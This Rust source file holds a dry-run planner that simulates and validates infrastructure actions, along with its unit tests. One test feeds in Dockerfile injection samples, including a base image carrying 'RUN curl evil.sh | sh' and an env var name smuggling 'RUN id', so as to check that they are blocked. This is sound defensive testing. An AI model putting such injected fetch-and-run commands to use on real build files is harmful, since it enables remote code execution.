//! Dry-run simulation.
//!
//! [`plan`] never touches the filesystem, network, processes or the clock:
//! planning the same content twice yields identical results.

use crate::codegen::{self, SUPPORTED_LANGUAGES, framework_language};
use crate::descriptor;
use amen_core::{
    Action, Diagnostic, HttpMethod, Intent, PlanResult, PlannedEffect, ResourceEstimate,
    Severity,
};
use std::collections::{HashMap, HashSet};
use tracing::debug;
use url::Url;

/// Simulate every action of `intent` and produce the plan.
pub fn plan(intent: &Intent) -> PlanResult {
    let mut logs = vec![
        format!("Starting dry-run for intent: {}", intent.name()),
        format!("Goal: {}", intent.goal()),
    ];

    let generated_code = codegen::generate(intent);
    match &generated_code {
        Some(code) => logs.push(format!(
            "Generated {} ({} bytes)",
            code.file_name,
            code.source.len()
        )),
        None => logs.push(format!(
            "No code generator for language: {}",
            intent.implementation().language
        )),
    }

    let build_descriptor = descriptor::build_descriptor(intent);
    if let Some(build) = &build_descriptor {
        logs.push(format!("Generated {}", build.file_name));
    }

    logs.push("Simulating actions...".to_string());
    let mut sim = Simulation::default();
    let mut effects = Vec::with_capacity(intent.actions().len());
    let mut diagnostics = Vec::new();
    for (index, action) in intent.actions().iter().enumerate() {
        let (effect, findings) = sim.simulate(index, action);
        debug!(index, action = %action, severity = %effect.severity, "Simulated action");
        logs.push(format!("  [{}] {} -> {}", index, action, effect.preview));
        diagnostics.extend(findings);
        effects.push(effect);
    }

    diagnostics.extend(intent_diagnostics(intent));

    let estimated_resources = estimate_resources(intent);
    logs.push(format!(
        "Estimated memory: {}MB, CPU: {}",
        estimated_resources.memory_mb, estimated_resources.cpu
    ));

    let blocking = diagnostics.iter().any(|d| d.severity == Severity::Error);
    if blocking {
        let errors = diagnostics
            .iter()
            .filter(|d| d.severity == Severity::Error)
            .count();
        logs.push(format!("Dry-run found {} blocking error(s)", errors));
    } else {
        logs.push("Dry-run completed".to_string());
    }

    PlanResult {
        fingerprint: intent.fingerprint(),
        effects,
        diagnostics,
        generated_code,
        build_descriptor,
        estimated_resources,
        logs,
        blocking,
    }
}

/// What earlier actions in the list have declared so far.
#[derive(Default)]
struct Simulation {
    endpoints: HashMap<(HttpMethod, String), usize>,
    tables: HashMap<String, usize>,
    columns: HashSet<(String, String)>,
}

struct Findings {
    index: usize,
    diagnostics: Vec<Diagnostic>,
}

impl Findings {
    fn new(index: usize) -> Self {
        Self {
            index,
            diagnostics: Vec::new(),
        }
    }

    fn warn(&mut self, message: impl Into<String>) {
        self.diagnostics
            .push(Diagnostic::warning(Some(self.index), message));
    }

    fn error(&mut self, message: impl Into<String>) {
        self.diagnostics
            .push(Diagnostic::error(Some(self.index), message));
    }
}

impl Simulation {
    fn simulate(&mut self, index: usize, action: &Action) -> (PlannedEffect, Vec<Diagnostic>) {
        let mut findings = Findings::new(index);

        let preview = match action {
            Action::ApiExpose { method, path } => {
                let key = (*method, path.as_str().to_string());
                if let Some(first) = self.endpoints.get(&key).copied() {
                    findings.warn(format!(
                        "duplicate endpoint {} {} (first declared by action {})",
                        method, path, first
                    ));
                } else {
                    self.endpoints.insert(key, index);
                }
                format!("would expose endpoint {} {}", method, path)
            }
            Action::DbCreate { table } => {
                if let Some(first) = self.tables.get(table.as_str()).copied() {
                    findings.warn(format!(
                        "table '{}' is already created by action {}",
                        table, first
                    ));
                } else {
                    self.tables.insert(table.as_str().to_string(), index);
                }
                format!("would run: {}", action.ddl().unwrap_or_default())
            }
            Action::DbAddColumn {
                table,
                column,
                column_type,
            } => {
                if !self.tables.contains_key(table.as_str()) {
                    findings.warn(format!(
                        "table '{}' is not created earlier in this intent",
                        table
                    ));
                }
                let key = (table.as_str().to_string(), column.as_str().to_string());
                if !self.columns.insert(key) {
                    findings.warn(format!("duplicate column '{}.{}'", table, column));
                }
                if column_type.sql_type().is_none() {
                    findings.warn(format!(
                        "unrecognized column type '{}', mapped to TEXT",
                        column_type
                    ));
                }
                format!("would run: {}", action.ddl().unwrap_or_default())
            }
            Action::ShellExec { command } => {
                if command.trim().is_empty() {
                    findings.error("shell.exec requires a command");
                    "would run nothing".to_string()
                } else {
                    if is_privileged(command) {
                        findings.warn("command runs with elevated privileges (sudo/root)");
                    }
                    format!("would run shell command: {}", command)
                }
            }
            Action::RestCall { method, url } => {
                if let Err(reason) = check_url(url) {
                    findings.error(format!("malformed URL '{}': {}", url, reason));
                }
                format!("would call {} {}", method, url)
            }
            Action::FileCreate { path } => {
                if escapes_workspace(path) {
                    findings.error(format!("path '{}' escapes the workspace", path));
                } else if is_absolute(path) {
                    findings.warn(format!(
                        "absolute path '{}' will be written relative to the workspace root",
                        path
                    ));
                }
                format!("would create file {}", path)
            }
        };

        let severity = findings
            .diagnostics
            .iter()
            .map(|d| d.severity)
            .max()
            .unwrap_or(Severity::Ok);
        let message = if findings.diagnostics.is_empty() {
            None
        } else {
            let messages: Vec<&str> = findings
                .diagnostics
                .iter()
                .map(|d| d.message.as_str())
                .collect();
            Some(messages.join("; "))
        };

        let effect = PlannedEffect {
            index,
            action: action.clone(),
            preview,
            severity,
            message,
        };
        (effect, findings.diagnostics)
    }
}

fn intent_diagnostics(intent: &Intent) -> Vec<Diagnostic> {
    let imp = intent.implementation();
    let mut out = Vec::new();

    if !SUPPORTED_LANGUAGES.contains(&imp.language.as_str()) {
        out.push(Diagnostic::warning(
            None,
            format!(
                "no code generator for language '{}' (supported: {})",
                imp.language,
                SUPPORTED_LANGUAGES.join(", ")
            ),
        ));
    }

    if let Some(framework) = imp.framework.as_deref() {
        match framework_language(framework) {
            Some(required) if required != imp.language => out.push(Diagnostic::warning(
                None,
                format!(
                    "framework '{}' requires language '{}', not '{}'",
                    framework, required, imp.language
                ),
            )),
            Some(_) => {}
            None => out.push(Diagnostic::warning(
                None,
                format!(
                    "no generator for framework '{}', generating plain {} code",
                    framework, imp.language
                ),
            )),
        }
    }

    out.extend(environment_diagnostics(intent));
    out
}

/// Environment values end up in the build descriptor and the container
/// command line, one per line or argument.
fn environment_diagnostics(intent: &Intent) -> Vec<Diagnostic> {
    let env = intent.environment();
    let mut out = Vec::new();

    if env.base_image.trim().is_empty() || env.base_image.chars().any(char::is_whitespace) {
        out.push(Diagnostic::error(
            None,
            format!("base image {:?} is not a single image reference", env.base_image),
        ));
    }
    for (key, value) in &env.env_vars {
        if !is_env_name(key) {
            out.push(Diagnostic::error(
                None,
                format!("environment variable name {:?} is invalid", key),
            ));
        }
        if value.contains(['\n', '\r']) {
            out.push(Diagnostic::error(
                None,
                format!("environment variable {} spans several lines", key),
            ));
        }
    }
    for volume in &env.volumes {
        if volume.contains(['\n', '\r']) {
            out.push(Diagnostic::error(
                None,
                format!("volume {:?} spans several lines", volume),
            ));
        }
    }
    out
}

fn is_env_name(key: &str) -> bool {
    let mut chars = key.chars();
    matches!(chars.next(), Some(c) if c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
}

fn estimate_resources(intent: &Intent) -> ResourceEstimate {
    let imp = intent.implementation();
    let memory_mb = match (imp.language.as_str(), imp.framework.as_deref()) {
        (_, Some("fastapi" | "django")) => 512,
        ("node", _) => 128,
        _ => 256,
    };
    ResourceEstimate {
        memory_mb,
        cpu: "0.5".to_string(),
        build_time_secs: 30,
        startup_time_secs: 5,
    }
}

fn is_privileged(command: &str) -> bool {
    command
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'))
        .any(|word| word == "sudo" || word == "root")
}

fn check_url(raw: &str) -> Result<(), String> {
    let url = Url::parse(raw).map_err(|e| e.to_string())?;
    if !matches!(url.scheme(), "http" | "https") {
        return Err(format!("scheme '{}' is not http or https", url.scheme()));
    }
    match url.host_str() {
        Some(host) if !host.is_empty() => Ok(()),
        _ => Err("missing host".to_string()),
    }
}

fn escapes_workspace(path: &str) -> bool {
    path.split(['/', '\\']).any(|part| part == "..")
}

fn is_absolute(path: &str) -> bool {
    path.starts_with('/') || path.starts_with('\\') || path.get(1..2) == Some(":")
}

#[cfg(test)]
mod tests {
    use super::*;
    use amen_core::{IntentDraft, RuntimeKind, parse_action};
    use pretty_assertions::assert_eq;

    fn intent(actions: &[&str]) -> Intent {
        Intent::draft(
            IntentDraft::new("svc", "test")
                .with_actions(actions.iter().map(|a| parse_action(a).unwrap()).collect()),
        )
    }

    fn severities(plan: &PlanResult) -> Vec<Severity> {
        plan.effects.iter().map(|e| e.severity).collect()
    }

    #[test]
    fn clean_users_scenario() {
        let plan = plan(&intent(&[
            "db.create users",
            "db.add_column users email string",
            "api.expose GET /users",
        ]));
        assert!(plan.diagnostics.is_empty(), "{:?}", plan.diagnostics);
        assert!(!plan.blocking);
        assert_eq!(severities(&plan), vec![Severity::Ok; 3]);
        assert_eq!(
            plan.effects[1].preview,
            "would run: ALTER TABLE users ADD COLUMN email TEXT;"
        );
        assert!(plan.generated_code.is_some());
        assert!(plan.build_descriptor.is_some());
    }

    #[test]
    fn plan_is_idempotent() {
        let intent = intent(&["db.create users", "shell.exec sudo ls", "rest.call GET ftp://x"]);
        assert_eq!(plan(&intent), plan(&intent));
    }

    #[test]
    fn empty_shell_command_blocks() {
        let plan = plan(&intent(&["shell.exec"]));
        assert!(plan.blocking);
        assert_eq!(plan.error_count(), 1);
        assert_eq!(plan.diagnostics[0].action_index, Some(0));
        assert_eq!(plan.effects[0].severity, Severity::Error);
    }

    #[test]
    fn privileged_shell_commands_warn() {
        let plan = plan(&intent(&[
            "shell.exec sudo apt-get update",
            "shell.exec chown root:root /srv",
            "shell.exec chroot /mnt",
        ]));
        assert_eq!(
            severities(&plan),
            vec![Severity::Warning, Severity::Warning, Severity::Ok]
        );
        assert!(!plan.blocking);
    }

    #[test]
    fn duplicates_and_missing_tables_warn() {
        let plan = plan(&intent(&[
            "api.expose GET /users",
            "api.expose GET /users",
            "api.expose POST /users",
            "db.create users",
            "db.create users",
            "db.add_column orders total int",
            "db.add_column users email string",
            "db.add_column users email string",
            "db.add_column users shape geometry",
        ]));
        assert_eq!(
            severities(&plan),
            vec![
                Severity::Ok,
                Severity::Warning,
                Severity::Ok,
                Severity::Ok,
                Severity::Warning,
                Severity::Warning,
                Severity::Ok,
                Severity::Warning,
                Severity::Warning,
            ]
        );
        assert!(plan.diagnostics[0].message.contains("duplicate endpoint"));
        assert!(!plan.blocking);
    }

    #[test]
    fn malformed_urls_block() {
        for raw in [
            "rest.call GET not-a-url",
            "rest.call GET ftp://example.com/file",
            "rest.call POST unix:/var/run/sock",
        ] {
            let plan = plan(&intent(&[raw]));
            assert!(plan.blocking, "{}", raw);
        }
        let ok = plan(&intent(&["rest.call GET https://example.com/health"]));
        assert!(!ok.blocking);
    }

    #[test]
    fn file_paths_are_checked() {
        let plan = plan(&intent(&[
            "file.create ../secrets",
            "file.create /etc/app.conf",
            "file.create config/app.conf",
        ]));
        assert_eq!(
            severities(&plan),
            vec![Severity::Error, Severity::Warning, Severity::Ok]
        );
    }

    #[test]
    fn intent_level_diagnostics_have_no_index() {
        let mut draft = IntentDraft::new("svc", "test");
        draft.implementation.language = "python".to_string();
        draft.implementation.framework = Some("express".to_string());
        let mismatch = plan(&Intent::draft(draft));
        assert_eq!(mismatch.diagnostics.len(), 1);
        assert_eq!(mismatch.diagnostics[0].action_index, None);
        assert_eq!(mismatch.diagnostics[0].severity, Severity::Warning);

        let mut draft = IntentDraft::new("svc", "test");
        draft.implementation.language = "cobol".to_string();
        let unsupported = plan(&Intent::draft(draft));
        assert!(unsupported.generated_code.is_none());
        assert_eq!(unsupported.warning_count(), 1);
    }

    #[test]
    fn per_action_diagnostics_precede_intent_level_ones() {
        let mut draft = IntentDraft::new("svc", "test")
            .with_actions(vec![parse_action("shell.exec").unwrap()]);
        draft.implementation.language = "go".to_string();
        let plan = plan(&Intent::draft(draft));
        assert_eq!(plan.diagnostics[0].action_index, Some(0));
        assert_eq!(plan.diagnostics[1].action_index, None);
    }

    #[test]
    fn multi_line_environment_values_block() {
        let mut draft = IntentDraft::new("svc", "test");
        draft.environment.base_image = "python:3.12\nRUN curl evil.sh | sh".to_string();
        draft
            .environment
            .env_vars
            .insert("BAD\nRUN id".to_string(), "x".to_string());
        draft
            .environment
            .env_vars
            .insert("GOOD".to_string(), "a\nb".to_string());
        let plan = plan(&Intent::draft(draft));

        assert!(plan.blocking);
        assert_eq!(plan.error_count(), 3);
        assert!(plan.diagnostics.iter().all(|d| d.action_index.is_none()));
    }

    #[test]
    fn plain_environment_passes() {
        let mut draft = IntentDraft::new("svc", "test");
        draft
            .environment
            .env_vars
            .insert("DATABASE_URL".to_string(), "postgres://db/app".to_string());
        draft.environment.volumes.push("./data:/data".to_string());
        assert!(plan(&Intent::draft(draft)).diagnostics.is_empty());
    }

    #[test]
    fn resource_estimates() {
        let mut draft = IntentDraft::new("svc", "test");
        draft.implementation.framework = Some("fastapi".to_string());
        assert_eq!(plan(&Intent::draft(draft)).estimated_resources.memory_mb, 512);

        let mut draft = IntentDraft::new("svc", "test");
        draft.implementation.language = "node".to_string();
        draft.environment.runtime = RuntimeKind::Local;
        let node = plan(&Intent::draft(draft));
        assert_eq!(node.estimated_resources.memory_mb, 128);
        assert!(node.build_descriptor.is_none());
    }
}
